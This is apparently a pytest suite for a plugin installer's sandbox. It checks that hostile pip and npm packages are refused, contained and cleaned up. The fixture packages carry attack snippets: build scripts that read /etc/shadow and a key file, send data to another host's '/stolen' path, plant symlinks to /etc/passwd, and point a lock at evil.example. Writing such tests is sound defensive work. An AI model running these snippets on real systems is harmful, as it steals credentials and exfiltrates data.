"""Installs from indexes and of packages that mean harm: the sandbox holds, nothing is left, and it is said what went wrong."""

import asyncio
import json
import os
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from msgspec.structs import replace
from package_index import PackageIndex, package_index, sdist, tarball, wheel
from workshop import Workshop

from switchgear.core.errors import PluginNotInstalled
from switchgear.plugins.building import prepare as preparing
from switchgear.plugins.building.indexes import Indexes
from switchgear.plugins.building.installing import CEILINGS

NODE = {
    "type": "node",
    "entry_point": "server/index.mjs",
    "mcp_config": {"command": "node", "args": ["${__dirname}/server/index.mjs"]},
}


@pytest.fixture
async def index(workshop: Workshop) -> AsyncIterator[PackageIndex]:
    """The only index there is, for pip and for npm."""
    async with package_index() as made:
        use(workshop, made, made.url)
        yield made


def use(workshop: Workshop, index: PackageIndex, url: str) -> None:
    environ = {
        "PATH": os.environ["PATH"],
        "HOME": str(workshop.data),
        "PIP_CONFIG_FILE": "/dev/null",
        "PIP_INDEX_URL": f"{url}/simple",
        "npm_config_registry": f"{index.url}/",
    }
    workshop.indexes = Indexes(workshop.indexes.cache, environ)


def requiring(workshop: Workshop, requirements: str) -> None:
    workshop.bundle({"server/main.py": "", "requirements.txt": requirements})


async def refused(workshop: Workshop, **others: float) -> str:
    with pytest.raises(PluginNotInstalled) as error:
        await workshop.prepare(**others)
    assert [each.name for each in workshop.version.iterdir()] == ["bundle"], "nothing is left"
    return error.value.told


def packages(workshop: Workshop) -> set[str]:
    [place] = workshop.deps.glob("lib/python3*/site-packages")
    return {each.name for each in place.iterdir() if not each.name.endswith(".dist-info")} - {"__pycache__"}


async def test_a_wheel_of_the_configured_index_is_installed(workshop: Workshop, index: PackageIndex) -> None:
    index.python(*wheel("good", "1.0", {"good.py": "X = 1\n"}))
    requiring(workshop, "good\n")
    await workshop.prepare()
    assert packages(workshop) == {"good.py"}


async def test_a_file_with_another_hash_than_the_locks_is_refused(workshop: Workshop, index: PackageIndex) -> None:
    index.python(*wheel("good", "1.0", {"good.py": "X = 1\n"}))
    requiring(workshop, f"good==1.0 --hash=sha256:{'0' * 64}\n")
    assert "HASHES" in await refused(workshop)


async def test_a_requirement_elsewhere_is_not_fetched(workshop: Workshop, index: PackageIndex) -> None:
    async with package_index() as other:
        other.python(*wheel("evil", "1.0", {"evil.py": ""}))
        requiring(workshop, f"evil @ {other.url}/files/evil-1.0-py3-none-any.whl\n")
        assert f"127.0.0.1:{other.port}, which is not where packages come from" in await refused(workshop)
        requiring(workshop, f"--index-url {other.url}/simple\nevil\n")
        await refused(workshop)
        assert other.asked == []


async def test_a_download_without_end_is_ended(
    workshop: Workshop, index: PackageIndex, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(preparing, "CEILINGS", replace(CEILINGS, disk_mb=64))
    index.python(*wheel("endless", "1.0", {"x.py": ""}))
    index.endless.add("/files/endless-1.0-py3-none-any.whl")
    requiring(workshop, "endless\n")
    told = await refused(workshop)
    assert "64 MiB" in told or "File too large" in told or "No space" in told


async def test_an_index_that_says_nothing_is_given_up(workshop: Workshop, index: PackageIndex) -> None:
    index.silent.add("/simple/quiet/")
    requiring(workshop, "quiet\n")
    assert "took more than 3 seconds" in await refused(workshop, seconds=3)


async def test_a_source_package_is_built_in_the_sandbox(workshop: Workshop, index: PackageIndex) -> None:
    index.python(*sdist("source", "1.0", "pass"))
    requiring(workshop, "source\n")
    await workshop.prepare()
    assert packages(workshop) == {"source.py"}


async def test_what_a_build_tries_is_refused_by_the_sandbox(
    workshop: Workshop, index: PackageIndex, tmp_path: Path
) -> None:
    hidden = tmp_path / "gateway.key"
    hidden.write_text("hush-hush")
    async with package_index() as other:
        tries = {
            "the shadow file": "open('/etc/shadow').read()",
            "the gateway's folder": f"open({str(hidden)!r}).read()",
            "the bundle changed": "open('/plugin/server/main.py', 'a').write('x')",
            "the cache": "__import__('os').listdir('/cache')",
            "another host": f"__import__('urllib.request').request.urlopen('{other.url}/stolen', timeout=5).read()",
            "a socket of its own": f"__import__('socket').create_connection(('127.0.0.1', {other.port}), 5)",
        }
        script = "found = []\n" + "".join(
            f"try:\n    {code}\n    found.append({what!r})\nexcept Exception as error:\n    pass\n"
            for what, code in tries.items()
        )
        script += "print('REACHED', found, flush=True)\nassert not found, found\n"
        index.python(*sdist("thief", "1.0", script))
        requiring(workshop, "thief\n")
        await workshop.prepare()
        assert other.asked == []
    assert packages(workshop) == {"thief.py"}, "it was built, and so it was tried"
    assert (workshop.version / "bundle" / "server" / "main.py").read_text() == ""


async def test_what_a_build_wrote_about_is_removed_whatever_its_modes_are(
    workshop: Workshop, index: PackageIndex
) -> None:
    code = (
        "import os\nos.makedirs('/data/locked/in')\nopen('/data/locked/in/x', 'w').close()\n"
        "os.symlink('/etc', '/data/away')\nos.symlink('/etc/passwd', '/deps/away')\nos.chmod('/data/locked', 0)\n"
        "raise SystemExit('no luck')"
    )
    index.python(*sdist("messy", "1.0", code))
    requiring(workshop, "messy\n")
    assert "no luck" in await refused(workshop)
    assert Path("/etc/passwd").exists()


async def test_a_build_leads_the_gateway_nowhere_with_links(
    workshop: Workshop, index: PackageIndex, tmp_path: Path
) -> None:
    mine = tmp_path / "mine"
    mine.write_text("untouched")
    index.python(*sdist("linker", "1.0", f"import os; os.symlink({str(mine)!r}, '/deps/prepared.json')"))
    requiring(workshop, "linker\n")
    await workshop.prepare()
    assert mine.read_text() == "untouched"
    assert not (workshop.deps / "prepared.json").is_symlink()


@pytest.mark.parametrize("name", ["deps", "tmp"])
async def test_a_build_that_replaces_a_folder_of_ours_is_found_out(
    workshop: Workshop, index: PackageIndex, tmp_path: Path, name: str
) -> None:
    mine = tmp_path / "mine"
    mine.mkdir(mode=0o700)
    code = f"import os; os.rename('/data/{name}', '/data/old'); os.symlink({str(mine)!r}, '/data/{name}')"
    index.python(*sdist("mover", "1.0", code))
    requiring(workshop, "mover\n")
    assert "which is an attack" in await refused(workshop)
    assert mine.stat().st_mode & 0o777 == 0o700
    assert not list(mine.iterdir())


@pytest.mark.parametrize(
    "requirements", ["./own\n", "-e ./own\n", "own @ file:///plugin/own\n", "good\n--no-binary :all:\n./own\n"]
)
async def test_what_is_built_whatever_pip_is_told_sees_no_cache(
    workshop: Workshop, index: PackageIndex, requirements: str
) -> None:
    index.python(*wheel("good", "1.0", {"good.py": ""}))
    backend = "import os, sys\ndef build_wheel(*_, **__): raise SystemExit(f'cache: {os.path.isdir(\"/cache\")}')\n"
    backend += "build_editable = build_wheel\n"
    project = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    files = {"server/main.py": "", "requirements.txt": requirements}
    workshop.bundle({**files, "own/pyproject.toml": project, "own/backend.py": backend})
    told = await refused(workshop) + "".join(workshop.told)
    assert "cache: False" in told
    assert "cache: True" not in told


async def test_an_index_with_a_password_installs_wheels_and_shows_it_to_no_build(
    workshop: Workshop, index: PackageIndex
) -> None:
    async with package_index(password="ann:hush-4711") as private:
        use(workshop, index, private.url.replace("://", "://ann:hush-4711@"))
        private.python(*wheel("good", "1.0", {"good.py": "X = 1\n"}))
        private.python(*sdist("source", "1.0", "pass"))
        requiring(workshop, "source\n")
        told = await refused(workshop)
        assert "password of the package index" in told
        requiring(workshop, "good\n")
        await workshop.prepare()
        assert packages(workshop) == {"good.py"}
    assert "hush-4711" not in told + "".join(workshop.told)


async def test_code_that_a_wheel_put_into_every_start_of_python_sees_no_cache(
    workshop: Workshop, index: PackageIndex
) -> None:
    hook = "import os; open('/deps/saw', 'a').write(f'{os.path.isdir(\"/cache\")} ')\n"
    index.python(*wheel("hook", "1.0", {"hook.pth": hook}))
    file, content = wheel("own", "1.0", {"own.py": ""}, "own = own:main")
    backend = f"import os\ndef build_wheel(folder, *_, **__):\n    open(os.path.join(folder, {file!r}), 'wb').write({content!r})\n"
    project = '[project]\nname = "own"\nversion = "1.0"\ndependencies = ["hook"]\n'
    project += '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    start = {"command": "uv", "args": ["run", "own"]}
    workshop.bundle(
        {"server/main.py": "", "pyproject.toml": project, "backend.py": backend + f"    return {file!r}\n"},
        server={"type": "uv", "entry_point": "server/main.py", "mcp_config": start},
    )
    assert (await workshop.prepare()).argv == ("/deps/bin/python", "/deps/bin/own")
    assert set((workshop.deps / "saw").read_text().split()) == {"False"}


# ------------------------------------------------------------ Node


def locked(index: PackageIndex, integrity: str = "", resolved: str = "") -> str:
    entry = index.pages["/words"][1]
    dist = json.loads(entry)["versions"]["1.0.0"]["dist"]
    found = {"version": "1.0.0", "resolved": resolved or dist["tarball"], "integrity": integrity or dist["integrity"]}
    own = {"name": "n", "version": "1.0.0", "dependencies": {"words": "1.0.0"}}
    packages = {"": own, "node_modules/words": {**found, "hasInstallScript": True}}
    return json.dumps({"name": "n", "version": "1.0.0", "lockfileVersion": 3, "requires": True, "packages": packages})


def needing_words(workshop: Workshop, lock: str) -> None:
    package = '{"name": "n", "version": "1.0.0", "dependencies": {"words": "1.0.0"}}'
    workshop.bundle(
        {
            "server/index.mjs": "",
            "package.json": package,
            "package-lock.json": lock,
            ".npmrc": "ignore-scripts=false\n",
        },
        server=NODE,
    )


async def test_node_packages_come_from_the_lock_and_their_scripts_are_not_run(
    workshop: Workshop, index: PackageIndex
) -> None:
    index.node(*tarball("words", "1.0.0", {"index.js": "1"}, scripts={"install": "touch /deps/ran"}))
    needing_words(workshop, locked(index))
    await workshop.prepare()
    assert (workshop.deps / "node_modules" / "words" / "index.js").read_text() == "1"
    assert not (workshop.deps / "ran").exists()


async def test_a_node_package_with_another_hash_is_refused(workshop: Workshop, index: PackageIndex) -> None:
    index.node(*tarball("words", "1.0.0", {"index.js": "1"}))
    needing_words(workshop, locked(index, integrity="sha512-" + "A" * 86 + "=="))
    assert "EINTEGRITY" in await refused(workshop)


async def test_a_lock_that_points_elsewhere_is_not_followed(workshop: Workshop, index: PackageIndex) -> None:
    async with package_index() as other:
        index.node(*tarball("words", "1.0.0", {"index.js": "1"}))
        needing_words(workshop, locked(index, resolved=f"{other.url}/words.tgz"))
        await asyncio.gather(workshop.prepare(), return_exceptions=True)
        needing_words(workshop, locked(index, resolved="git+https://evil.example/words.git"))
        assert other.asked == []
